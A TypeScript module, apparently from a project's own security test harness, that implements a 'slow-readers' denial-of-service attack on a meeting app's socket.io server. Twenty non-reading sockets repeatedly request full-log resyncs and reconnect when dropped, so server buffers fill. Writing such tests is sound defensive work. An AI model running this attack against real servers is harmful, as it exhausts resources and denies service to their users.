import { type RawSocketIo, rawSocketIo } from './rawSocketIo';
import { inflate, sleep, targetMeeting } from './setup';
import type { Attack, AttackContext } from './types';

/** What the non-reading projector sockets got. */
export interface SlowReadersResult {
  /** Connections the attack opened (it reopens each one the server drops). */
  opened: number;
  /** Connections the server closed or dropped. */
  closedByServer: number;
  /** Handshakes refused, by connect_error message. */
  refused: Record<string, number>;
  /** `resync` messages sent. */
  resyncs: number;
}

const SOCKETS = 20;
const RESYNC_EVERY_MS = 200; // 5 a second: inside the per-socket rate limit of before issue 10

/**
 * With the projector's view token alone: SOCKETS sockets that stop reading (yet answer pings) and
 * ask for the whole log (`resync` from seq 0) five times a second each; whatever the server answers
 * piles up in its buffers. A socket the server drops is opened again.
 */
export async function startSlowReaders(
  ctx: AttackContext & { inflateTo?: number; sockets?: number; resyncEveryMs?: number },
) {
  const target = await targetMeeting(ctx.url, ctx.adminToken);
  await inflate(ctx.url, ctx.adminToken, target.meetingId, ctx.inflateTo ?? 600);
  const result: SlowReadersResult = { opened: 0, closedByServer: 0, refused: {}, resyncs: 0 };
  let running = true;
  const live = new Set<RawSocketIo>();
  const loop = async () => {
    while (running) {
      const socket = rawSocketIo(ctx.url, { token: target.viewToken, protocol: 1 });
      result.opened++;
      const answer = await socket.connected;
      if (answer !== 'ok') {
        result.refused[answer] = (result.refused[answer] ?? 0) + 1;
        socket.close();
        await sleep(200);
        continue;
      }
      live.add(socket);
      socket.pause();
      let gone = false;
      void socket.closed.then(() => {
        gone = true;
        if (running) result.closedByServer++;
      });
      while (running && !gone) {
        socket.emit('resync', { sinceSeq: 0 });
        result.resyncs++;
        await sleep(ctx.resyncEveryMs ?? RESYNC_EVERY_MS);
      }
      live.delete(socket);
      socket.close();
      await sleep(200);
    }
  };
  const loops = Array.from({ length: ctx.sockets ?? SOCKETS }, loop);
  return {
    meetingId: target.meetingId,
    stop: async (): Promise<SlowReadersResult> => {
      running = false;
      for (const socket of live) socket.close();
      await Promise.all(loops);
      return result;
    },
  };
}

export const describeSlowReaders = (r: SlowReadersResult): string =>
  `${r.opened} sockets opened, ${r.closedByServer} dropped by the server, refused ${JSON.stringify(r.refused)}, ${r.resyncs} resyncs`;

export const attack: Attack = {
  name: 'slow-readers',
  summary: `${SOCKETS} projector sockets stop reading and ask for the whole log 5 times a second each`,
  start: async (ctx) => {
    const running = await startSlowReaders(ctx);
    return { stop: async () => describeSlowReaders(await running.stop()) };
  },
};
